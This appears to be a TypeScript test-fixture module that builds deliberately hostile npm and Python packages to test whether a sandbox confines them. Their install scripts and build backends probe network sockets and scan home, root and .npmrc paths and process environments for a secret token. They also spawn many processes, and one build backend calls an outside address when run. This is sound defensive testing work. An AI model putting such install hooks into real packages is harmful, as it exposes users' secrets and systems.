import { execFile } from 'node:child_process'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { writeFixturePackage } from '../fixture-package.ts'

/** What a package tries while it is installed. */
export interface Targets {
  /** Places to connect to, by what they are. */
  places: Readonly<Record<string, { host: string; port: number } | { path: string }>>
  /** Text that it must not find. */
  token: string
  /** Files and folders of the machine. */
  paths: readonly string[]
  /** How many processes it starts at a time. */
  processes: number
}

/** What it gained: everything that it could open, read or become. */
export interface Report {
  /** Of the places. */
  reached: string[]
  /** Paths whose contents it saw, and where the token was. */
  read: string[]
  token: string[]
  uid: number
  capabilities: string
  processes: number
}

/** An npm package whose install script tries everything and writes what it got beside the server's program. */
export async function writeHostileNpm(folder: string, name: string, targets: Targets): Promise<void> {
  await writeFixturePackage(folder, name)
  const manifest = {
    name,
    version: '1.0.0',
    type: 'module',
    bin: { [name]: 'fixture-server.mjs' },
    scripts: { postinstall: 'node spy.mjs' },
  }
  await writeFile(join(folder, 'package.json'), JSON.stringify(manifest))
  await writeFile(join(folder, 'spy.mjs'), `const targets = ${JSON.stringify(targets)}\n${SPY}`)
}

const SPY = `
import { spawn } from 'node:child_process'
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'

const report = { reached: [], read: [], token: [], uid: process.getuid(), capabilities: '', processes: 0 }
report.capabilities = /^CapEff:\\s*(\\S+)/m.exec(readFileSync('/proc/self/status', 'utf8'))[1]

const reach = ([what, { path, ...place }]) => new Promise((done) => {
  const socket = connect(path === undefined ? place : { path })
  const end = (isOpen) => { if (isOpen) report.reached.push(what); socket.destroy(); done() }
  socket.setTimeout(4000, () => end(false)).on('connect', () => end(true)).on('error', () => end(false))
})
await Promise.all(Object.entries(targets.places).map(reach))

const look = (path, depth) => {
  let found
  try { found = statSync(path) } catch { return }
  try {
    if (found.isDirectory()) {
      const names = readdirSync(path)
      if (depth === 0 && targets.paths.includes(path) && names.length > 0) report.read.push(path)
      if (depth < 3) for (const name of names.slice(0, 50)) look(path + '/' + name, depth + 1)
    } else if (found.isFile() && found.size < 1e6) {
      const text = readFileSync(path, 'utf8')
      if (targets.paths.includes(path)) report.read.push(path)
      if (text.includes(targets.token)) report.token.push(path)
    }
  } catch {}
}
for (const path of targets.paths) look(path, 0)
for (const path of ['/build', '/run', '/tmp', '/root', '/home', '/app/..npmrc', '/opt/package']) look(path, 1)
for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)))
  try { if (readFileSync('/proc/' + pid + '/environ', 'utf8').includes(targets.token)) report.token.push('environ') } catch {}

const children = []
for (let count = 0; count < targets.processes; count += 1) {
  const child = spawn('/bin/sh', ['-c', 'read x'], { stdio: ['pipe', 'ignore', 'ignore'] })
  const isThere = await new Promise((done) => child.on('spawn', () => done(true)).on('error', () => done(false)))
  if (!isThere) break
  children.push(child)
}
report.processes = children.length
for (const child of children) child.kill('SIGKILL')
writeFileSync('report.json', JSON.stringify(report))
`

/** A Python source package whose build backend does the same. The server that it builds tells the report. Gives the archive. */
export async function makeHostileSdist(folder: string, name: string, targets: Targets): Promise<Buffer> {
  const base = `${name.replaceAll('-', '_')}-1.0.0`
  const root = join(folder, base)
  await mkdir(root, { recursive: true })
  const files = {
    'pyproject.toml': `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "${name}"\nversion = "1.0.0"\n`,
    'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0.0\n`,
    'backend.py': `import json\ntargets = json.loads(${JSON.stringify(JSON.stringify(targets))})\nname = "${name}"\n${BACKEND}`,
  }
  for (const [file, text] of Object.entries(files)) await writeFile(join(root, file), text)
  const archive = join(folder, `${base}.tar.gz`)
  await promisify(execFile)('tar', ['-czf', archive, '-C', folder, base])
  return readFile(archive)
}

const BACKEND = `
import os, socket, zipfile

def spy():
    report = {"reached": [], "read": [], "token": [], "uid": os.getuid(), "capabilities": "", "processes": 0}
    report["capabilities"] = next(l for l in open("/proc/self/status") if l.startswith("CapEff:")).split()[1]
    for what, place in targets["places"].items():
        try:
            if "path" in place:
                s = socket.socket(socket.AF_UNIX)
                s.settimeout(4)
                s.connect(place["path"])
            else:
                s = socket.create_connection((place["host"], place["port"]), 4)
            report["reached"].append(what)
            s.close()
        except OSError:
            pass
    for path in targets["paths"]:
        try:
            if os.listdir(path) if os.path.isdir(path) else open(path).read():
                report["read"].append(path)
        except OSError:
            pass
    return report

SERVER = '''import json, sys
def main():
    report = json.load(open(__file__.replace("__init__.py", "report.json")))
    for line in sys.stdin:
        message = json.loads(line)
        if "id" not in message:
            continue
        method = message["method"]
        if method == "initialize":
            result = {"protocolVersion": message["params"]["protocolVersion"], "capabilities": {"tools": {}}, "serverInfo": {"name": "x", "version": "1"}}
        elif method == "tools/list":
            result = {"tools": [{"name": "report", "inputSchema": {"type": "object"}}]}
        elif method == "tools/call":
            result = {"content": [{"type": "text", "text": json.dumps(report)}]}
        else:
            result = {}
        print(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": result}), flush=True)
'''

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    module = name.replace("-", "_")
    info = module + "-1.0.0.dist-info"
    files = {
        module + "/__init__.py": SERVER,
        module + "/report.json": json.dumps(spy()),
        info + "/METADATA": "Metadata-Version: 2.1\\nName: " + name + "\\nVersion: 1.0.0\\n",
        info + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        info + "/entry_points.txt": "[console_scripts]\\n" + name + " = " + module + ":main\\n",
    }
    files[info + "/RECORD"] = "".join(f + ",,\\n" for f in [*files, info + "/RECORD"])
    wheel = module + "-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as out:
        for file, text in files.items():
            out.writestr(file, text)
    return wheel
`

/** A Python wheel that depends on the source archive at an address. Gives its name and contents. */
export async function makeLeadingWheel(folder: string, name: string, address: string) {
  const base = `${name.replaceAll('-', '_')}-1.0.0`
  const root = join(folder, `${base}.files`)
  const info = join(root, `${base}.dist-info`)
  await mkdir(info, { recursive: true })
  const needs = `Requires-Dist: thv-built @ ${address}\n`
  await writeFile(join(info, 'METADATA'), `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0.0\n${needs}`)
  await writeFile(join(info, 'WHEEL'), 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
  await writeFile(join(info, 'RECORD'), '')
  const wheel = join(folder, `${base}-py3-none-any.whl`)
  await promisify(execFile)('python3', ['-m', 'zipfile', '-c', wheel, info])
  return { name: `${base}-py3-none-any.whl`, content: await readFile(wheel) }
}

/** A source archive that asks for an address as soon as anything of it is run. */
export async function makeTellingSdist(folder: string, address: string) {
  const root = join(folder, 'thv_built-1.0.0')
  await mkdir(root, { recursive: true })
  await writeFile(
    join(root, 'pyproject.toml'),
    '[build-system]\nrequires = []\nbuild-backend = "told"\nbackend-path = ["."]\n',
  )
  await writeFile(join(root, 'PKG-INFO'), 'Metadata-Version: 2.1\nName: thv-built\nVersion: 1.0.0\n')
  await writeFile(join(root, 'told.py'), `import urllib.request\nurllib.request.urlopen(${JSON.stringify(address)})\n`)
  const archive = join(folder, 'thv_built-1.0.0.tar.gz')
  await promisify(execFile)('tar', ['-czf', archive, '-C', folder, 'thv_built-1.0.0'])
  return { name: 'thv_built-1.0.0.tar.gz', content: await readFile(archive) }
}
